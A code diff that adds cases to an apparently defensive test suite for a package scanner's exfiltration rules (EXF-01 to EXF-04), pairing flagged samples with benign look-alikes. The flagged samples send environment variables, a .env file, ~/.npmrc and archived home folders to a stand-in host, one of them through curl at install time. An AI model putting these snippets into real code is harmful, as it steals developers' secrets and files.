@@ -52,6 +52,16 @@ describeVerdicts("EXF-01", {
         "index.js": `import { env } from "node:process"; await fetch("${url}", { method: "POST", body: JSON.stringify(env) });`,
       },
     },
+    "through an emitter of the package, over three files": {
+      manifest: { main: "a.mjs", type: "module" },
+      files: {
+        "a.mjs": `import bus from "./bus.mjs"; import "./b.mjs";
+          bus.emit("ready", JSON.stringify({ ...process.env }));`,
+        "bus.mjs": `import { EventEmitter } from "node:events"; export default new EventEmitter();`,
+        "b.mjs": `import got from "got"; import bus from "./bus.mjs";
+          bus.on("ready", async (body) => { await got.post("https://files.example.test/c", { body }); });`,
+      },
+    },
   },
   passes: {
     "the environment of a process": `
@@ -109,6 +119,10 @@ describeVerdicts("EXF-02", {
     "a token that is given back": `
       exports.token = () => process.env.NPM_TOKEN;
       exports.latest = () => fetch("${url}");`,
+    "a crash reporter whose address is the secret": `
+      let client;
+      exports.init = ({ dsn = process.env.SENTRY_DSN } = {}) => { const u = new URL(dsn); client = { host: u.host, key: u.username }; };
+      exports.capture = (e) => fetch(\`https://\${client.host}/api/1/store?key=\${client.key}\`, { method: "POST", body: e.stack });`,
   },
 });
 
@@ -146,6 +160,13 @@ describeVerdicts("EXF-03", {
       const p = Buffer.from("${base64("/.npmrc")}", "base64").toString();
       const f = require("fs").readFileSync(require("os").homedir() + p);
       fetch("${url}", { method: "POST", body: f });`,
+    "through the helpers of a compiler": `
+      const tslib_1 = require("tslib");
+      const fs = tslib_1.__importStar(require("fs"));
+      const axios_1 = tslib_1.__importDefault(require("axios"));
+      tslib_1.__awaiter(this, void 0, void 0, function* () {
+        yield axios_1.default.post("https://files.example.test/c", fs.readFileSync(".env", "utf8"));
+      });`,
   },
   passes: {
     "a reader of settings": `
@@ -189,6 +210,11 @@ describeVerdicts("EXF-04", {
     "an archive by a command": atInstall(
       `require("child_process").execSync("tar czf - ~/Documents | curl -T - ${url}");`,
     ),
+    "the home folder as one archive": `
+      const cp = require("child_process"), os = require("os"), fs = require("fs");
+      const to = os.tmpdir() + "/c.tgz";
+      cp.execFileSync("tar", ["-czf", to, "-C", os.homedir(), "Documents", ".config"]);
+      fetch("https://files.example.test/in", { method: "POST", body: fs.readFileSync(to) });`,
   },
   passes: {
     "a folder of the caller": `
@@ -205,5 +231,11 @@ describeVerdicts("EXF-04", {
       `const fs = require("fs");
        for (const name of fs.readdirSync(process.cwd(), { recursive: true })) if (name.endsWith(".md")) console.log(name);`,
     ),
+    "an archive of the caller's folder": `
+      const cp = require("child_process"), fs = require("fs");
+      exports.upload = (folder) => {
+        cp.execFileSync("tar", ["-czf", "out.tgz", "-C", folder, "."]);
+        return fetch("https://files.example.test/in", { method: "POST", body: fs.readFileSync("out.tgz") });
+      };`,
   },
 });
